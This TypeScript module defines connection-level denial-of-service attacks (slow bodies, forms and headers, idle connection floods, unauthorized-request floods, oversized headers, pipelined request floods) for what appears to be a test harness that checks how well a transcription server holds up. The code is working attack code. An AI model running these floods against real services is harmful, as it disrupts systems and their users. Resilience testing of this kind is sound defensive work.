import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack, Attacker } from '../attacker.ts'

/** Opens a connection to the server, which closes with the attack. */
async function openConnection({ url, signal, count }: Attacker): Promise<Socket> {
  const { hostname, port } = new URL(url)
  const socket = connect(Number(port), hostname)
  socket.on('error', () => {})
  socket.on('close', () => count('closed'))
  signal.addEventListener('abort', () => socket.destroy(), { once: true })
  await once(socket, 'connect', { signal })
  socket.resume()
  return socket
}

/** Holds `concurrency` connections; each sends `begin`, then `next` five times a second. */
function holdConnections(concurrency: number, begin: string, next: string): Attack {
  return {
    run(attacker) {
      return attacker.repeat(concurrency, async () => {
        const socket = await openConnection(attacker)
        socket.write(begin)
        while (!socket.destroyed && !attacker.signal.aborted) {
          await sleep(200)
          if (next !== '') socket.write(next)
        }
      })
    },
  }
}

/** Sends a request with an unknown key, in 20 concurrent loops. */
function sendRefused(init: Parameters<Attacker['send']>[1], path = '/v2/transcription'): Attack {
  return {
    run({ send, repeat }) {
      return repeat(20, async () => {
        await send(path, { ...init, headers: { 'x-service-key': crypto.randomUUID() } })
      })
    },
  }
}

/** Sends a whole text on a new connection, in ten concurrent loops. */
function sendText(text: (key: string) => string): Attack {
  return {
    run(attacker) {
      const bytes = Buffer.from(text(attacker.key), 'latin1')
      return attacker.repeat(10, async () => {
        if (!attacker.spend(bytes.length)) return
        const socket = await openConnection(attacker)
        socket.write(bytes)
        await Promise.race([once(socket, 'close'), sleep(1000)])
        socket.destroy()
      })
    },
  }
}

const head = 'host: a\r\ncontent-type: application/json\r\n'
const POST = `POST /v2/pre-recorded HTTP/1.1\r\n${head}content-length: 1000000\r\n\r\n{`
const FORM = `POST /v2/upload HTTP/1.1\r\nhost: a\r\ncontent-type: multipart/form-data; boundary=x\r\ncontent-length: 1000000\r\n\r\n`
const headers = (count: number, length: number) =>
  Array.from({ length: count }, (_, n) => `h${n}: ${'v'.repeat(length)}\r\n`).join('')

/** Attacks with connections that cost the server more than the attacker. */
export const connectionAttacks: Record<string, Attack> = {
  'conn-slow-bodies': holdConnections(200, POST, ' '),
  'conn-slow-forms': holdConnections(200, FORM, '-'),
  'conn-slow-headers': holdConnections(200, `GET /health HTTP/1.1\r\n${head}`, 'a: b\r\n'),
  'conn-idle': holdConnections(1000, '', ''),
  'conn-401': sendRefused({}),
  'conn-401-bodies': sendRefused({ text: `[${'1,'.repeat(400_000)}1]` }, '/v2/pre-recorded'),
  'conn-headers': sendText(
    (key) => `GET /v2/live HTTP/1.1\r\nhost: a\r\nx-service-key: ${key}\r\n${headers(2500, 1)}\r\n`,
  ),
  'conn-header-large': sendText(() => `GET /health HTTP/1.1\r\n${headers(1000, 1000)}\r\n`),
  'conn-pipeline': sendText((key) =>
    `GET /v2/transcription?limit=1000 HTTP/1.1\r\nhost: a\r\nx-service-key: ${key}\r\n\r\n`.repeat(
      1000,
    ),
  ),
  'conn-pipeline-health': sendText(() => 'GET /health HTTP/1.1\r\nhost: a\r\n\r\n'.repeat(5000)),
}
